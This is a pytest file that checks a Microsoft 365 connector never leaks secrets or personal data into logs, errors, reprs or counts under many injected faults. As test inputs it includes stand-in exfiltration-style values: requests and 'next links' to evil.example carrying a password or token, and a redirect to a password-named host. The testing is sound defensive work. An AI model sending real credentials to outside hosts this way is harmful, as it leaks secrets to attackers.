"""Whatever goes wrong, nothing that is secret or personal gets into a log, an error, a representation or a count."""

from __future__ import annotations

import logging
import os
import traceback
import urllib.parse
import warnings
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest

from connectors.errors import ConnectorError
from connectors.microsoft365.answers import said_of
from connectors.microsoft365.auth import Certificate, Secret
from connectors.microsoft365.device_code import DeviceTokens
from connectors.microsoft365.gate import TenantGate
from connectors.microsoft365.graph import Graph
from connectors.microsoft365.links import quoted
from connectors.microsoft365.session import Http
from connectors.microsoft365.streaming import SELECTED, facts_of, fetch
from tests.connectors.microsoft365.asking import PASSWORD, WRITER, calls, gate_of, sign_in, tokens_of
from tests.emulator import App, Emulator, Fault, app_certificate
from tests.emulator.faults import duplicate_keys, not_a_number

NAME = "Appraisal of Wilhelmina Ashcombe.docx"
CONTENT = b"Wilhelmina Ashcombe has been off sick since 3 March." * 3000
ANN = "wilhelmina.ashcombe@contoso.example"
WORDS = f"Cannot do this with {NAME} of {ANN}, on hold, locked, checked out, a record"


class Everything(logging.Handler):
    """Hears what is said at any level, on the root logger and on any that is cut off from it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.heard: list[str] = []
        self.setFormatter(logging.Formatter("%(name)s %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.heard.append(self.format(record))


class Scene:
    """A tenant in which everything has a name that must not be told, and an ear for all that is told."""

    def __init__(self, emulator: Emulator, ear: Everything) -> None:
        self.emulator = emulator
        self.ear = ear
        self.told: list[str] = []
        site = emulator.tenant.add_site("Ashcombe dismissal", path="/sites/ashcombe")
        self.drive = site.add_library("Wilhelmina")
        self.item_id = self.drive.put(f"Wilhelmina/{NAME}", CONTENT, by=ANN)
        self.app: App = emulator.tenant.add_app(roles=set(WRITER), secret=PASSWORD)
        self.graph = Graph(
            tokens_of(emulator, self.app),
            gate_of(emulator),
            root=emulator.graph_url,
            ca_file=emulator.ca_file,
            sleep=emulator.clock.advance,
        )
        self.at = f"/drives/{quoted(self.drive.id)}/items/{quoted(self.item_id)}"

    def do_everything(self) -> None:
        """All that we do with an item, each for itself, whatever comes of the others."""
        facts = lambda: facts_of(self.graph.get(f"{self.at}?$select={SELECTED}"))  # noqa: E731
        into = os.memfd_create("content")
        for act in (
            lambda: self.graph.get(f"{self.at}?$select=id,name"),
            lambda: list(self.graph.all(f"/drives/{quoted(self.drive.id)}/root/children")),
            lambda: self.graph.listed(f"/drives/{quoted(self.drive.id)}/root/delta"),
            lambda: fetch(self.graph, facts, into),
            lambda: self.graph.send("PATCH", self.at, {"name": NAME}, headers={"If-Match": '"{x},1"'}),
            lambda: self.graph.send("DELETE", self.at, headers={"If-Match": '"{x},1"'}),
            lambda: self.graph.get(f"{self.graph.root}/sites/{ANN}/{urllib.parse.quote(NAME)}"),
            lambda: self.graph.get(f"https://evil.example/{PASSWORD}"),
        ):
            self.listen(act)
        os.close(into)

    def listen(self, act: Any) -> None:
        try:
            answer = act()
            self.told.append("" if isinstance(answer, dict | list) else repr(answer))  # those are what was asked for
        except ConnectorError as error:
            self.told.append(self.shown(error))

    def shown(self, error: BaseException) -> str:
        """Everything that somebody who gets hold of an error can print of it."""
        shown = [str(error), repr(error), repr(said_of(error)), *traceback.format_exception(error)]
        shown += [str(value) for name, value in vars(error).items() if name != "location"]
        shown += getattr(error, "__notes__", [])
        for other in (error.__cause__, error.__context__):
            if other is not None:
                shown.append(self.shown(other))
        return "\n".join(shown)

    def secrets(self) -> set[str]:
        """What must not be told."""
        kept = {PASSWORD, NAME, ANN, "Ashcombe", "Wilhelmina", self.drive.id, self.item_id, self.emulator.tenant.id}
        kept |= {urllib.parse.quote(word) for word in kept} | {self.app.client_id, CONTENT[:20].decode()}
        for call in self.emulator.log:
            kept |= {call.headers.get("Authorization", "").removeprefix("Bearer ")}
            kept |= {call.query.get(name, "") for name in ("tempauth", "token", "$skiptoken")}
        return {word for word in kept if len(word) > 4}

    def check(self, *more: str) -> None:
        said = "\n".join([*self.told, *self.ear.heard, *more])
        said = said.replace(__file__, "")  # the code that a traceback shows is no secret
        lines = [line for line in said.splitlines() if not line.startswith("    ")]
        for word in self.secrets():
            found = [line for line in lines if word.lower() in line.lower()]
            assert not found, f"{word[:12]}… was told: {found[:3]}"


@pytest.fixture
def ear() -> Iterator[Everything]:
    handler = Everything()
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    Http().close()
    cut_off = [
        logger
        for logger in logging.Logger.manager.loggerDict.values()
        if isinstance(logger, logging.Logger) and not logger.propagate
    ]
    for logger in cut_off:
        logger.addHandler(handler)
    yield handler
    for logger in (root, *cut_off):
        logger.removeHandler(handler)
    root.setLevel(level)


@pytest.fixture
def scene(ear: Everything) -> Iterator[Scene]:
    with Emulator(check=False) as emulator:
        scene = Scene(emulator, ear)
        yield scene
        scene.graph.close()


EVIL: dict[str, list[dict[str, Any]]] = {
    "nothing": [],
    **{
        f"status {status}": [{"status": status, "code": "accessDenied", "message": WORDS, "inner": {"code": NAME}}]
        for status in (302, 400, 401, 403, 404, 408, 409, 410, 412, 423, 429, 500, 501, 502, 503, 504, 507, 509)
    },
    "a code that is a name": [{"status": 400, "code": NAME, "message": WORDS}],
    "HTML": [{"status": 500, "body": f"<html>{WORDS}</html>"}],
    "a long wait": [{"status": 429, "retry_after": "5000", "message": WORDS}],
    "a reset": [{"reset": "after"}],
    "an early reset": [{"reset": "before"}],
    "a cut": [{"cut_at": 20}],
    "no number": [{"garble": not_a_number}],
    "a name twice": [{"garble": duplicate_keys}],
    "no JSON": [{"garble": lambda _: WORDS.encode()}],
    "a list": [{"garble": lambda _: f'["{NAME}"]'.encode()}],
    "a foreign link": [{"next_link": f"https://evil.example/{urllib.parse.quote(NAME)}?token={PASSWORD}"}],
    "a link that is none": [{"next_link": NAME}],
    "an expired link": [{"host": "downloads", "status": 401, "message": WORDS}],
    "a refused download": [{"host": "downloads", "status": 403, "message": WORDS}],
    "a failing download": [{"host": "downloads", "status": 500, "body": WORDS}],
    "a cut download": [{"host": "downloads", "cut_at": 70_000}],
    "a redirected download": [{"host": "downloads", "status": 302, "headers": {"Location": f"http://{PASSWORD}/"}}],
    "another part": [{"host": "downloads", "status": 206, "headers": {"Content-Range": NAME}, "body": CONTENT}],
    "other content": [{"host": "downloads", "status": 200, "body": CONTENT[::-1]}],
    "headers that are none": [{"status": 503, "headers": {"Retry-After": NAME, "RateLimit-Reset": ANN, "Date": NAME}}],
    "a secret that is refused": [{"host": "login", "status": 400, "body": {"error": NAME, "error_description": WORDS}}],
    "a sign-in that fails": [{"host": "login", "status": 500, "body": WORDS}],
    "a sign-in that says nothing": [{"host": "login", "status": 200, "body": {"x": NAME}}],
    "a sign-in that breaks off": [{"host": "login", "reset": "after"}],
}


@pytest.mark.parametrize("faults", EVIL.values(), ids=EVIL.keys())
def test_whatever_goes_wrong_tells_nothing(
    scene: Scene, faults: list[dict[str, Any]], capfd: pytest.CaptureFixture[str]
) -> None:
    for fault in faults:
        scene.emulator.faults.add(Fault(times=None, **fault))
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        scene.do_everything()
    assert scene.told
    printed = capfd.readouterr()
    scene.check(printed.out, printed.err, *(str(warning.message) for warning in warned))


def test_a_token_that_is_refused_tells_nothing(scene: Scene) -> None:
    scene.do_everything()
    scene.emulator.revoke_tokens()
    scene.app.rotate_secret("of-another")
    scene.do_everything()
    assert any("AADSTS7000215" in told for told in scene.told), "what may be told is told"
    scene.check("")


def test_a_certificate_that_is_refused_tells_nothing(scene: Scene) -> None:
    pem = app_certificate()
    for credential in (
        Certificate(pem),
        Certificate(pem[:300]),
        Certificate(pem, PASSWORD),
        Secret("wrong-" + PASSWORD),
    ):
        tokens = tokens_of(scene.emulator, scene.app, credential=credential)
        scene.listen(tokens.callback)
        scene.told += [
            repr(tokens),
            repr(sign_in(scene.emulator, scene.app, credential)).replace(scene.app.client_id, ""),
        ]
        tokens.close()
    scene.told = [told.replace(scene.emulator.tenant.id, "") for told in scene.told]
    scene.check("")
    assert not any("BEGIN" in told for told in scene.told)


def test_a_certificate_of_a_host_that_we_do_not_trust_tells_nothing(scene: Scene) -> None:
    with ExitStack() as stack:
        graph = Graph(tokens_of(scene.emulator, scene.app), TenantGate(None), root=scene.emulator.graph_url, sleep=bool)
        stack.callback(graph.close)
        scene.listen(lambda: graph.get(scene.at))
        proxied = Graph(
            tokens_of(scene.emulator, scene.app),
            TenantGate(None),
            root=scene.emulator.graph_url,
            proxy=f"http://me:{PASSWORD}@127.0.0.1:1",
            sleep=bool,
        )
        stack.callback(proxied.close)
        scene.listen(lambda: proxied.get(scene.at))
        scene.told += [repr(proxied), repr(Http(proxy=f"http://me:{PASSWORD}@127.0.0.1:1"))]
    scene.check("")


def test_a_person_who_is_asked_for_tells_nothing(scene: Scene) -> None:
    app = scene.emulator.tenant.add_app(scopes={"Sites.FullControl.All"})
    terms = (scene.emulator.tenant.id, app.client_id, scene.emulator.login_url, ["https://graph.microsoft.com/x"])
    tokens = DeviceTokens(*terms, Http(scene.emulator.ca_file), known_login=False, sleep=scene.emulator.clock.advance)
    code = tokens.begin()
    scene.emulator.decline_device(code.user_code)
    scene.listen(tokens.finish)
    scene.told += [repr(tokens), repr(code)]
    scene.check("")
    assert not any(code.user_code in told for told in scene.told)


def test_counts_are_numbers(scene: Scene) -> None:
    scene.emulator.faults.add(Fault(status=429, retry_after="3", times=2))
    scene.do_everything()
    gate = scene.graph.gate
    for count in (gate.waited_seconds, gate.throttled_count, gate.used_today, gate.at_once, gate.closed_for_seconds):
        assert isinstance(count, int | float)


def test_the_ear_would_have_heard(scene: Scene) -> None:
    """The proof that the others prove something: what the libraries say by themselves is full of names."""
    for name in ("urllib3", "msal"):
        logging.getLogger(name).setLevel(logging.DEBUG)
    try:
        scene.do_everything()
        with pytest.raises(AssertionError, match="was told"):
            scene.check("")
    finally:
        for name in ("urllib3", "msal"):
            logging.getLogger(name).setLevel(logging.CRITICAL + 1)
    assert calls(scene.emulator)
